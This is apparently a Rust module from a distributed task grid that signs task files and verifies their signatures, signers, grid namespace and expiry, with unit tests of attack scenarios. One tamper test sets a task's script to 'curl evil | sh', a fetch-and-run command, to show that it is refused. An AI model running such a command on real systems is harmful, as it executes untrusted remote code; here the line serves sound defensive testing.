//! Signed tasks.
//!
//! A submitter signs the task's fields plus `grid_id`, `issued_at` and
//! `expires_at`, as compact JSON; the file carries the same fields at the
//! top level (readable, and what `validate` checks) and the signed bytes in
//! its envelope:
//!
//! ```json
//! {
//!   "task_id": "t-42",
//!   "script": "echo hi",
//!   "timeout_seconds": 30,
//!   "grid_id": "g7",
//!   "issued_at": "2026-11-30T10:00:00.000Z",
//!   "expires_at": "2026-12-07T10:00:00.000Z",
//!   "envelope": {"payload_type": "application/vnd.dgrid.task.v1+json",
//!                "payload": "eyJleHBpcmVzX2F0Ijoi…", "signatures": ["-----BEGIN SSH SIGNATURE-----…"]}
//! }
//! ```
//!
//! A claim adds `claim`, a requeue sets `attempt`; nothing else may differ
//! from the payload. The task that runs is parsed from the payload itself.
//!
//! Checking is split in two: [`open`] does everything that depends only on
//! the bytes (parsing, agreement, the signature's mathematics), so its
//! outcome can be cached per blob; [`judge`] then applies the policy and
//! the clock, which are cheap and change.

use serde_json::{Map, Value};
use ssh_key::PublicKey;

use super::envelope::{self, ENVELOPE_FIELD, Envelope};
use super::error::TrustError;
use super::keys::sha256_hex;
use super::policy::{Index, Kind, Lookup};
use super::sig::{self, KeySigner, Role, SigError, SignError};
use crate::grid::claim::{CLAIM_FIELD, pretty};
use crate::grid::task::EntryKind;
use crate::grid::{Id, Task, TaskRules};
use crate::time::{self, Timestamp};

/// The fields the grid itself writes into a task file, outside the payload.
pub const UNSIGNED_FIELDS: [&str; 3] = [ENVELOPE_FIELD, CLAIM_FIELD, "attempt"];

/// A clock a few minutes ahead of this node's is a submitter's, not an
/// attack: a task "issued" that little in the future is taken.
pub const CLOCK_SKEW_SECONDS: i64 = 300;

/// `sha256:<hex>` of what a task asks to run: its signed payload, or for an
/// unsigned task its fields as compact JSON with sorted keys (without the
/// claim, the attempt, or an envelope). A result names the task it answers
/// by this digest, whichever copy of the file (queued or claimed) it came
/// from.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct TaskDigest(pub String);

impl TaskDigest {
    pub fn of_bytes(bytes: &[u8]) -> TaskDigest {
        TaskDigest(format!("sha256:{}", sha256_hex(bytes)))
    }

    /// The digest of a task file, queued or claimed. None for a signed
    /// file whose fields are not its signed payload's (tampered with): what
    /// runs from it is not what was signed, and no digest of the payload
    /// may stand for it (a node in `warn` or `off` runs such a file, and
    /// must not sign its result as the signed task's).
    pub fn of_file(bytes: &[u8]) -> Option<TaskDigest> {
        let Ok(Value::Object(mut top)) = serde_json::from_slice::<Value>(bytes) else {
            return None;
        };
        if let Some(env) = top.get(ENVELOPE_FIELD) {
            let payload = Envelope::from_field(env, Role::Task)
                .ok()?
                .payload_bytes()
                .ok()?;
            let signed = envelope::parse_object(&payload).ok()?;
            envelope::agree(&top, &signed, &UNSIGNED_FIELDS).ok()?;
            return Some(TaskDigest::of_bytes(&payload));
        }
        for f in UNSIGNED_FIELDS {
            top.remove(f);
        }
        Some(TaskDigest::of_bytes(
            &serde_json::to_vec(&Value::Object(top)).expect("JSON serialises"),
        ))
    }
}

impl std::fmt::Display for TaskDigest {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// Sign `task` for `grid`, valid from `issued_at` to `expires_at`: the task
/// as it goes in the queue, with its envelope.
pub fn sign(
    task: &Task,
    grid: &Id,
    issued_at: Timestamp,
    expires_at: Timestamp,
    key: &KeySigner,
) -> Result<Vec<u8>, SignError> {
    let mut fields = task.to_json();
    for f in UNSIGNED_FIELDS {
        fields.remove(f);
    }
    fields.insert("grid_id".into(), grid.to_string().into());
    fields.insert("issued_at".into(), time::format(issued_at).into());
    fields.insert("expires_at".into(), time::format(expires_at).into());
    let payload = serde_json::to_vec(&Value::Object(fields.clone())).expect("JSON serialises");
    let signature = key.sign(Role::Task, grid, &payload)?;
    let mut top = fields;
    top.insert(
        ENVELOPE_FIELD.into(),
        Envelope::new(Role::Task, &payload, vec![signature]).to_value(),
    );
    Ok(pretty(&Value::Object(top)))
}

/// What [`open`] found in a signed task file: all that depends on the bytes
/// alone.
#[derive(Debug, Clone)]
pub struct Opened {
    /// The task as the payload says, with the file's attempt and envelope
    /// (so that it writes back the same file).
    pub task: Task,
    pub digest: TaskDigest,
    pub issued_at: Timestamp,
    pub expires_at: Timestamp,
    pub signer: PublicKey,
    /// Does the signature hold over the payload, in this grid's task
    /// namespace? Judged after the signer is looked up: an unknown signer
    /// is skipped whatever its signature.
    pub signature: Result<(), SigError>,
}

fn field_time(obj: &Map<String, Value>, field: &'static str) -> Result<Timestamp, TrustError> {
    let bad = |reason: &str| TrustError::BadField {
        field,
        reason: reason.to_owned(),
    };
    match obj.get(field) {
        None => Err(bad("it is missing")),
        Some(Value::String(s)) => time::parse(s).ok_or_else(|| bad("not an RFC 3339 time")),
        Some(_) => Err(bad("not a string")),
    }
}

/// Parse and check a task file named `name` for grid `grid`, everything but
/// the policy and the clock.
pub fn open(name: &str, bytes: &[u8], rules: &TaskRules, grid: &Id) -> Result<Opened, TrustError> {
    // The file must first be a valid task as it stands (the name, the size,
    // no key given twice), exactly as an unsigned one.
    let as_filed =
        Task::from_entry(name, EntryKind::File, bytes, rules).map_err(TrustError::BadTask)?;
    let top = envelope::parse_file(bytes)?;
    let env = Envelope::from_field(
        top.get(ENVELOPE_FIELD).ok_or(TrustError::Unsigned)?,
        Role::Task,
    )?;
    let armored = env.only_signature(Role::Task)?;
    let payload = env.payload_bytes()?;
    let signed = envelope::parse_object(&payload)?;
    envelope::agree(&top, &signed, &UNSIGNED_FIELDS).map_err(TrustError::Tampered)?;
    match signed.get("grid_id") {
        Some(Value::String(g)) if g == grid.as_str() => {}
        Some(Value::String(g)) => {
            return Err(TrustError::OtherGrid {
                found: g.clone(),
                expected: grid.to_string(),
            });
        }
        _ => {
            return Err(TrustError::BadField {
                field: "grid_id",
                reason: "it is missing or not a string".into(),
            });
        }
    }
    let issued_at = field_time(&signed, "issued_at")?;
    let expires_at = field_time(&signed, "expires_at")?;
    // What runs is parsed from the signed bytes, not from the file.
    let mut task = Task::parse(&payload, rules).map_err(TrustError::BadTask)?;
    task.attempt = as_filed.attempt;
    task.extra
        .insert(ENVELOPE_FIELD.into(), top[ENVELOPE_FIELD].clone());
    let s = sig::parse(armored).map_err(TrustError::BadSignature)?;
    Ok(Opened {
        task,
        digest: TaskDigest::of_bytes(&payload),
        issued_at,
        expires_at,
        signer: sig::signer(&s),
        signature: sig::verify(&s, Role::Task, grid, &payload),
    })
}

/// A task whose signature and signer the policy accepts, now.
#[derive(Debug, Clone, PartialEq)]
pub struct SignedTask {
    pub task: Task,
    pub submitter: Id,
    pub key_fingerprint: String,
    pub digest: TaskDigest,
    pub expires_at: Timestamp,
}

/// Who may sign a role's documents, as the policy lists them. Shared with
/// results.
pub(crate) fn signer_for(
    index: &Index,
    key: &PublicKey,
    wanted: Kind,
    now: Timestamp,
) -> Result<Id, TrustError> {
    let fingerprint = super::keys::fingerprint(key);
    let listed = match index.lookup(key) {
        Lookup::Unknown => return Err(TrustError::UnknownSigner { fingerprint }),
        Lookup::Revoked(r) => {
            return Err(TrustError::Revoked {
                fingerprint,
                revoked_at: r.revoked_at.clone(),
                reason: r.reason.clone(),
            });
        }
        Lookup::Listed(l) => l,
    };
    if listed.kind != wanted {
        return Err(TrustError::WrongRole {
            fingerprint,
            kind: listed.kind,
            name: listed.name.to_string(),
            wanted,
            role: wanted.role().word(),
        });
    }
    listed
        .window
        .check(now)
        .map_err(|error| TrustError::KeyWindow {
            kind: listed.kind,
            name: listed.name.to_string(),
            error,
        })?;
    Ok(listed.name.clone())
}

/// Apply the policy and this node's clock to an opened task.
pub fn judge(
    opened: &Opened,
    index: &Index,
    max_lifetime_seconds: u64,
    now: Timestamp,
) -> Result<SignedTask, TrustError> {
    // The signer first: an unknown key is only skipped (the policy may be
    // behind), whatever its signature; then the signature; then what the
    // policy lets that key do, now.
    let fingerprint = super::keys::fingerprint(&opened.signer);
    if index.lookup(&opened.signer) == Lookup::Unknown {
        return Err(TrustError::UnknownSigner { fingerprint });
    }
    opened.signature.clone().map_err(TrustError::BadSignature)?;
    let submitter = signer_for(index, &opened.signer, Kind::Submitter, now)?;
    let lifetime = (opened.expires_at - opened.issued_at).num_seconds();
    if lifetime < 0 || lifetime as u64 > max_lifetime_seconds {
        return Err(TrustError::LifetimeTooLong {
            seconds: lifetime,
            max: max_lifetime_seconds,
        });
    }
    if opened.issued_at > now + chrono::Duration::seconds(CLOCK_SKEW_SECONDS) {
        return Err(TrustError::NotYetIssued(time::format(opened.issued_at)));
    }
    if now >= opened.expires_at {
        return Err(TrustError::Expired(time::format(opened.expires_at)));
    }
    Ok(SignedTask {
        task: opened.task.clone(),
        submitter,
        key_fingerprint: fingerprint,
        digest: opened.digest.clone(),
        expires_at: opened.expires_at,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trust::policy::tests::{at, id, signer};
    use crate::trust::policy::{Policy, Window};

    struct Fixture {
        alice: KeySigner,
        node: KeySigner,
        index: Index,
        policy: Policy,
    }

    fn fixture() -> Fixture {
        let (alice, node) = (signer(), signer());
        let mut policy = Policy::new(id("g7"), at("2026-01-01T00:00:00Z"));
        policy
            .add(
                Kind::Submitter,
                id("alice"),
                alice.public_key(),
                Window::default(),
            )
            .unwrap();
        policy
            .add(Kind::Node, id("n1"), node.public_key(), Window::default())
            .unwrap();
        Fixture {
            index: policy.index().unwrap(),
            alice,
            node,
            policy,
        }
    }

    fn task(script: &str) -> Task {
        Task::parse(
            format!(r#"{{"task_id":"t1","script":"{script}","timeout_seconds":30,"owner":"ana"}}"#)
                .as_bytes(),
            &TaskRules::default(),
        )
        .unwrap()
    }

    const NOW: &str = "2026-03-01T12:00:00Z";

    fn signed_by(key: &KeySigner, grid: &str) -> Vec<u8> {
        sign(
            &task("echo ok"),
            &id(grid),
            at("2026-03-01T00:00:00Z"),
            at("2026-03-08T00:00:00Z"),
            key,
        )
        .unwrap()
    }

    fn check(f: &Fixture, bytes: &[u8], now: &str) -> Result<SignedTask, TrustError> {
        let opened = open("t1.json", bytes, &TaskRules::default(), &id("g7"))?;
        judge(
            &opened,
            &f.index,
            f.policy.max_task_lifetime_seconds,
            at(now),
        )
    }

    #[test]
    fn a_signed_task_survives_a_claim_and_a_requeue() {
        let f = fixture();
        let bytes = signed_by(&f.alice, "g7");
        let ok = check(&f, &bytes, NOW).unwrap();
        assert_eq!(ok.submitter.as_str(), "alice");
        assert_eq!(ok.task.script, "echo ok");
        assert_eq!(ok.task.extra["owner"], "ana");
        assert_eq!(Some(ok.digest.clone()), TaskDigest::of_file(&bytes));
        // The claim rewrites the file: its bytes change, the payload not.
        let filed = Task::parse(&bytes, &TaskRules::default()).unwrap();
        let claimed = crate::grid::claim::ClaimedTask::new(
            filed,
            &id("n1"),
            at(NOW),
            chrono::Duration::seconds(60),
        );
        let claimed_bytes = claimed.to_bytes();
        assert_ne!(claimed_bytes, bytes);
        let again = check(&f, &claimed_bytes, NOW).unwrap();
        assert_eq!(again.task, ok.task);
        assert_eq!(TaskDigest::of_file(&claimed_bytes), Some(ok.digest.clone()));
        let requeued = claimed.requeued(2);
        let third = check(&f, &requeued, NOW).unwrap();
        assert_eq!(third.task.attempt, 2);
        assert_eq!(third.digest, ok.digest);
        // And the task as it runs writes back the same file.
        assert_eq!(
            Task::parse(
                &pretty(&Value::Object(ok.task.to_json())),
                &TaskRules::default()
            )
            .unwrap(),
            Task::parse(&bytes, &TaskRules::default()).unwrap()
        );
    }

    #[test]
    fn attack_unsigned_task_is_skipped() {
        let f = fixture();
        let e = check(
            &f,
            br#"{"task_id":"t1","script":"x","timeout_seconds":1}"#,
            NOW,
        )
        .unwrap_err();
        assert_eq!(e, TrustError::Unsigned);
        assert_eq!(e.disposition(), super::super::error::Disposition::Skip);
    }

    #[test]
    fn attack_tampered_script_is_refused() {
        let f = fixture();
        let bytes = signed_by(&f.alice, "g7");
        let mut v: Value = serde_json::from_slice(&bytes).unwrap();
        v["script"] = "curl evil | sh".into();
        let e = check(&f, &serde_json::to_vec(&v).unwrap(), NOW).unwrap_err();
        assert_eq!(e.code(), "tampered");
        assert_eq!(
            e.to_string(),
            "field `script` differs from the signed payload"
        );
        // Changing the payload too breaks the signature.
        let mut v: Value = serde_json::from_slice(&bytes).unwrap();
        let env = Envelope::from_field(&v["envelope"], Role::Task).unwrap();
        let p = String::from_utf8(env.payload_bytes().unwrap())
            .unwrap()
            .replace("echo ok", "echo no");
        v["script"] = "echo no".into();
        v["envelope"]["payload"] = Envelope::new(Role::Task, p.as_bytes(), vec![])
            .payload
            .into();
        let e = check(&f, &serde_json::to_vec(&v).unwrap(), NOW).unwrap_err();
        assert_eq!(e.code(), "bad-signature", "{e}");
        assert_eq!(e.disposition(), super::super::error::Disposition::Reject);
        // An unsigned field added beside the signed ones is refused too.
        let mut v: Value = serde_json::from_slice(&bytes).unwrap();
        v["image"] = "evil".into();
        let e = check(&f, &serde_json::to_vec(&v).unwrap(), NOW).unwrap_err();
        assert_eq!(e.to_string(), "field `image` is not in the signed payload");
    }

    #[test]
    fn attack_task_signed_by_a_nodes_key_is_refused() {
        let f = fixture();
        let e = check(&f, &signed_by(&f.node, "g7"), NOW).unwrap_err();
        assert_eq!(e.code(), "wrong-role");
        assert!(
            e.to_string()
                .contains("of node n1; only a submitter's key may sign a task"),
            "{e}"
        );
    }

    #[test]
    fn attack_signature_from_another_grid_is_refused() {
        let f = fixture();
        let e = check(&f, &signed_by(&f.alice, "g8"), NOW).unwrap_err();
        assert_eq!(
            e,
            TrustError::OtherGrid {
                found: "g8".into(),
                expected: "g7".into()
            }
        );
        // Relabelled as ours, the signature's namespace still says g8.
        let bytes = signed_by(&f.alice, "g8");
        let text = String::from_utf8(bytes)
            .unwrap()
            .replace("\"g8\"", "\"g7\"");
        let mut v: Value = serde_json::from_str(&text).unwrap();
        let env = Envelope::from_field(&v["envelope"], Role::Task).unwrap();
        let p = String::from_utf8(env.payload_bytes().unwrap())
            .unwrap()
            .replace("\"g8\"", "\"g7\"");
        v["envelope"]["payload"] = Envelope::new(Role::Task, p.as_bytes(), vec![])
            .payload
            .into();
        let e = check(&f, &serde_json::to_vec(&v).unwrap(), NOW).unwrap_err();
        assert!(
            matches!(e, TrustError::BadSignature(SigError::Namespace { .. })),
            "{e}"
        );
    }

    #[test]
    fn attack_expired_task_and_unknown_or_revoked_signers() {
        let mut f = fixture();
        let bytes = signed_by(&f.alice, "g7");
        let e = check(&f, &bytes, "2026-03-08T00:00:00Z").unwrap_err();
        assert_eq!(e, TrustError::Expired("2026-03-08T00:00:00.000Z".into()));
        assert_eq!(e.disposition(), super::super::error::Disposition::Reject);
        let e = check(&f, &bytes, "2026-02-28T23:00:00Z").unwrap_err();
        assert_eq!(e.code(), "not-yet-issued");
        let mallory = signer();
        let e = check(&f, &signed_by(&mallory, "g7"), NOW).unwrap_err();
        assert_eq!(e.code(), "unknown-signer");
        assert_eq!(e.disposition(), super::super::error::Disposition::Skip);
        f.policy
            .revoke(f.alice.public_key(), Some("laptop stolen".into()), at(NOW))
            .unwrap();
        f.index = f.policy.index().unwrap();
        let e = check(&f, &bytes, NOW).unwrap_err();
        assert_eq!(e.code(), "revoked-key");
        assert!(e.to_string().contains("(laptop stolen)"), "{e}");
    }

    #[test]
    fn key_windows_and_lifetimes_use_the_nodes_clock() {
        let mut f = fixture();
        let bytes = signed_by(&f.alice, "g7");
        f.policy.submitters[0].valid_before = Some("2026-02-01T00:00:00Z".into());
        f.index = f.policy.index().unwrap();
        let e = check(&f, &bytes, NOW).unwrap_err();
        assert_eq!(e.code(), "key-expired");
        let long = sign(
            &task("x"),
            &id("g7"),
            at("2026-03-01T00:00:00Z"),
            at("2027-03-01T00:00:00Z"),
            &f.alice,
        )
        .unwrap();
        f.policy.submitters[0].valid_before = None;
        f.index = f.policy.index().unwrap();
        let e = check(&f, &long, NOW).unwrap_err();
        assert_eq!(e.code(), "lifetime-too-long");
    }
}
